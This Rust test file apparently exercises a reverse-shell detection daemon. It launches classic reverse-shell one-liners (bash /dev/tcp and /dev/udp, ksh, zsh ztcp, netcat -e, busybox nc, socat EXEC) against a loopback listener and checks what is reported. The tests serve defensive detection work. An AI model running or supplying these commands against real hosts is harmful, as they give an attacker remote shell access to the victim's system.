//! Reverse shells by way of shells and network tools.

use std::net::UdpSocket;

use crate::common::attacker::{Listener, Session};
use crate::common::daemon::Daemon;
use crate::common::expected::{Expected, prove, prove_session};
use crate::common::victim::Victim;
use crate::common::wait_for;
use crate::require;

#[test]
fn bash_tcp_one_socket_on_all_three() {
    require!("bash");
    Daemon::shared();
    let attacker = Listener::tcp();
    let line = format!("bash -i >& /dev/tcp/127.0.0.1/{} 0>&1", attacker.port());
    let victim = Victim::start("/bin/bash", &["-c", &line]);
    let expected = Expected { exe: "bash", args: &["bash", "-i"], ..Expected::default() };
    prove(Daemon::shared(), &attacker, victim, &expected);
}

#[test]
fn bash_opens_a_high_descriptor_and_another_shell_gets_it() {
    require!("bash");
    Daemon::shared();
    let attacker = Listener::tcp();
    let line = format!("exec 77<>/dev/tcp/127.0.0.1/{}; exec sh <&77 >&77 2>&77", attacker.port());
    let victim = Victim::start("/bin/bash", &["-c", &line]);
    prove(Daemon::shared(), &attacker, victim, &Expected::default());
}

#[test]
fn bash_udp() {
    require!("bash");
    Daemon::shared();
    let socket = UdpSocket::bind("127.0.0.1:0").unwrap();
    let port = socket.local_addr().unwrap().port();
    let line = format!("exec 5<>/dev/udp/127.0.0.1/{port}; echo hello >&5; exec sh <&5 >&5 2>&5");
    let victim = Victim::start("/bin/bash", &["-c", &line]);
    let expected = Expected { protocol: "UDP", wire: Some("UDP"), ..Expected::default() };
    prove_session(Daemon::shared(), Session::first_datagram(socket), victim, &expected);
}

#[test]
fn bash_tcp_over_ipv6() {
    require!("bash");
    Daemon::shared();
    let attacker = Listener::at("::1");
    let line = format!("exec 5<>/dev/tcp/::1/{}; exec sh -i <&5 >&5 2>&5", attacker.port());
    let victim = Victim::start("/bin/bash", &["-c", &line]);
    let expected = Expected { args: &["sh", "-i"], protocol: "TCPv6", ..Expected::default() };
    prove(Daemon::shared(), &attacker, victim, &expected);
}

#[test]
fn ksh_tcp() {
    require!("ksh");
    Daemon::shared();
    let attacker = Listener::tcp();
    let line = format!("exec 5<>/dev/tcp/127.0.0.1/{}; exec ksh <&5 >&5 2>&5", attacker.port());
    let victim = Victim::start("/bin/ksh", &["-c", &line]);
    let expected = Expected { exe: "ksh", args: &["ksh"], ..Expected::default() };
    prove(Daemon::shared(), &attacker, victim, &expected);
}

#[test]
fn zsh_tcp_module() {
    require!("zsh");
    Daemon::shared();
    let attacker = Listener::tcp();
    let port = attacker.port();
    let line = format!("zmodload zsh/net/tcp; ztcp 127.0.0.1 {port}; exec zsh <&$REPLY >&$REPLY 2>&$REPLY");
    let victim = Victim::start("/bin/zsh", &["-fc", &line]);
    let expected = Expected { exe: "zsh", args: &["zsh"], ..Expected::default() };
    prove(Daemon::shared(), &attacker, victim, &expected);
}

#[test]
fn netcat_traditional_connects_and_executes() {
    require!("nc.traditional");
    Daemon::shared();
    let attacker = Listener::tcp();
    let port = attacker.port().to_string();
    let victim = Victim::start("nc.traditional", &["-e", "/bin/sh", "127.0.0.1", &port]);
    // netcat leaves stderr where it was, or not, by version: both are row 1.
    let session = attacker.accept();
    let fds = stdio_of(&session);
    prove_session(Daemon::shared(), session, victim, &Expected { fds: &fds, ..Expected::default() });
}

#[test]
fn busybox_netcat_executes() {
    require!("busybox");
    Daemon::shared();
    let attacker = Listener::tcp();
    let port = attacker.port().to_string();
    let victim = Victim::start("busybox", &["nc", "127.0.0.1", &port, "-e", "/bin/sh"]);
    let session = attacker.accept();
    let fds = stdio_of(&session);
    let expected = Expected { args: &["/bin/sh"], fds: &fds, ..Expected::default() };
    prove_session(Daemon::shared(), session, victim, &expected);
}

#[test]
fn busybox_shell_on_a_socket() {
    require!("bash", "busybox");
    Daemon::shared();
    let attacker = Listener::tcp();
    let line = format!("exec 5<>/dev/tcp/127.0.0.1/{}; exec busybox sh <&5 >&5 2>&5", attacker.port());
    let victim = Victim::start("/bin/bash", &["-c", &line]);
    let expected = Expected { exe: "busybox", args: &["busybox", "sh"], ..Expected::default() };
    prove(Daemon::shared(), &attacker, victim, &expected);
}

#[test]
fn socat_hands_the_socket_over() {
    require!("socat");
    Daemon::shared();
    let attacker = Listener::tcp();
    let victim = Victim::start("socat", &[&format!("TCP:127.0.0.1:{}", attacker.port()), "EXEC:sh,nofork"]);
    let session = attacker.accept();
    let fds = stdio_of(&session);
    prove_session(Daemon::shared(), session, victim, &Expected { fds: &fds, ..Expected::default() });
}

#[test]
fn socat_hands_the_socket_over_with_stderr() {
    require!("socat");
    Daemon::shared();
    let attacker = Listener::tcp();
    let to = format!("TCP:127.0.0.1:{}", attacker.port());
    let victim = Victim::start("socat", &[&to, "EXEC:sh -i,nofork,stderr"]);
    let expected = Expected { args: &["sh", "-i"], ..Expected::default() };
    prove(Daemon::shared(), &attacker, victim, &expected);
}

/// Which of fds 0-2 the shell at the other end has on the connection, asked of /proc by this test itself: tools
/// differ in what they do with stderr. The client's socket is found by its inode in `/proc/net/tcp`.
fn stdio_of(session: &Session) -> Vec<u64> {
    let (own, peer) = (session.victim().port(), session.attacker().port());
    let ends = [format!("0100007F:{own:04X}"), format!("0100007F:{peer:04X}")];
    let inode = wait_for("the socket in /proc/net/tcp", || {
        let table = std::fs::read_to_string("/proc/net/tcp").unwrap();
        let mut rows = table.lines().map(|row| row.split_whitespace().collect::<Vec<_>>());
        rows.find(|row| row[1..3] == ends).map(|row| row[9].to_owned())
    });
    let wanted = format!("socket:[{inode}]");
    wait_for("a shell with the socket on stdin", || {
        let entries = std::fs::read_dir("/proc").unwrap().flatten();
        entries.map(|entry| entry.path().join("fd")).find_map(|fds| {
            let is = |fd: &u64| {
                std::fs::read_link(fds.join(fd.to_string())).is_ok_and(|to| to.as_os_str() == wanted.as_str())
            };
            let shell = std::fs::read_link(fds.with_file_name("exe")).ok()?;
            (is(&0) && shell.ends_with("dash")).then(|| (0..3).filter(is).collect())
        })
    })
}
